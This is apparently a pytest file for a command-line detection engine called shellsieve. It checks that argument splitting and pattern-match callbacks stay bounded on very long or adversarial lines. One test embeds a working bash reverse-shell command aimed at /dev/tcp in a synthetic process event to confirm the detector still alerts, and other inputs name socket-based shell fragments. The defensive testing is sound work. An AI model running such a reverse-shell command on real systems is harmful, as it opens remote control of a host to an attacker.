"""Long and adversarial lines: work linear in the line, callbacks bounded per event.

The default run asserts work counts (Python lines executed, Hyperscan callbacks), never wall-clock
time. The timed bounds (2x input at most 2.5x time, under 50 ms per MiB per event) are behind the
`slow` marker: `python -m pytest tests/reliability/test_long_lines.py -m slow -q`.
"""

from __future__ import annotations

import shlex
import sys
from collections.abc import Callable
from typing import Any

import pytest

from shellsieve.compile.ruleset import Ruleset
from shellsieve.events.argv import split_posix, split_windows
from shellsieve.run.match import BlockMatcher
from shellsieve.run.stats import Stats


def _lines_run(fn: Callable[[], Any]) -> int:
    """Python lines executed by `fn()`: a measure of interpreted work independent of the clock."""
    count = 0

    def trace(frame: Any, event: str, arg: Any) -> Any:
        nonlocal count
        if event == "line":
            count += 1
        return trace

    sys.settrace(trace)
    try:
        fn()
    finally:
        sys.settrace(None)
    return count


class TestArgv:
    @pytest.mark.parametrize("line", [
        "a b  c", "'a b' \"c d\" e\\ f", "\"a\\\"b\\\\c\\n\"", "''", "a'b'\"c\"d", "x\\", "'open", "\t\r\na\x0bb",
        "é\u3000x", "a\\\nb",
    ])
    def test_posix_split_equals_shlex(self, line: str) -> None:
        """The regex splitter gives shlex.split's answer, or str.split's where shlex refuses the line."""
        try:
            expected = shlex.split(line, posix=True)
        except ValueError:
            expected = line.split()
        assert split_posix(line) == expected

    @pytest.mark.parametrize("line", ["a" * 65_536, "a " * 32_768, "'" + "a \\" * 20_000 + "'"])
    def test_posix_split_work_does_not_grow_with_the_line(self, line: str) -> None:
        """A 64 KiB token, 32,768 plain arguments, one quoted 60 KB argument: a fixed amount of
        interpreted work (shlex ran a Python loop per character, quadratic on one long token)."""
        assert _lines_run(lambda: split_posix(line)) < 50

    def test_posix_split_work_is_per_quoted_argument(self) -> None:
        """Arguments with quotes are unquoted one by one: work per argument, not per character."""
        line = "'ab' " * 10_000
        assert split_posix(line) == ["ab"] * 10_000
        assert _lines_run(lambda: split_posix(line)) < 5 * 10_000

    def test_windows_split_work_is_per_token(self) -> None:
        """CommandLineToArgvW rules on a 64 KiB argument: a few tokens, not a loop per character."""
        line = '"' + "a" * 65_536 + '" x'
        assert split_windows(line) == ["a" * 65_536, "x"]
        assert _lines_run(lambda: split_windows(line)) < 200


def _callbacks(fn: Callable[[], Any]) -> int:
    """Hyperscan match callbacks (Python functions Hyperscan calls back) made while `fn()` runs."""
    count = 0

    def profile(frame: Any, event: str, arg: Any) -> None:
        nonlocal count
        if event == "call" and frame.f_code.co_name in ("_on_raw", "_on_single"):
            count += 1

    sys.setprofile(profile)
    try:
        fn()
    finally:
        sys.setprofile(None)
    return count


def _ecs(command_line: bytes) -> bytes:
    return b'{"process":{"command_line":"' + command_line + b'"}}\n'


class TestMatchExplosion:
    @pytest.mark.parametrize("unit", [b"\\/", b"socket.socket ", b'\\"perl socket ', b"fsockopen( /bin/ "])
    def test_callbacks_bounded_by_patterns_per_event(self, shipped: Ruleset, unit: bytes) -> None:
        """A 256 KiB command line of a literal that fires at every repeat (the escape marker, a
        keyed literal, a join's last set after its first): at most two callbacks per line pattern
        for the event, however long the line (one per repeat before: one per 2 bytes for `\\/`)."""
        line = _ecs(unit * (262_144 // len(unit)))
        matcher = BlockMatcher(shipped, Stats())
        n = _callbacks(lambda: matcher.process(line))
        assert n <= 2 * (max(shipped.format_ids) + 1)  # the line patterns: format markers come last

    def test_long_line_still_matches_after_the_rescan(self, shipped: Ruleset) -> None:
        """The single-match rescan keeps every candidate: a reverse shell padded with 200 KB of
        `\\/` escapes is still alerted, and the short lines of the same block keep their output."""
        shell = b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 "
        event = (b'{"process":{"name":"bash","command_line":"' + shell + b"\\/" * 100_000
                 + b'","args":["bash","-i"],"parent":{"name":"nginx"}},"event":{"category":["process"],'
                 b'"type":["start"]},"host":{"os":{"type":"linux"}}}\n')
        short = b'{"process":{"name":"ls","command_line":"ls -l"}}\n'
        block = short + event + short
        fast = BlockMatcher(shipped, Stats())
        out = fast.process(block).splitlines()
        assert fast.rescanned_blocks == 1
        reference = BlockMatcher(shipped, Stats(), prefilter=False).process(block).splitlines()
        assert out == reference
        assert b'"kind":"alert"' in out[1]
        assert out[0] + b"\n" == short and out[2] + b"\n" == short
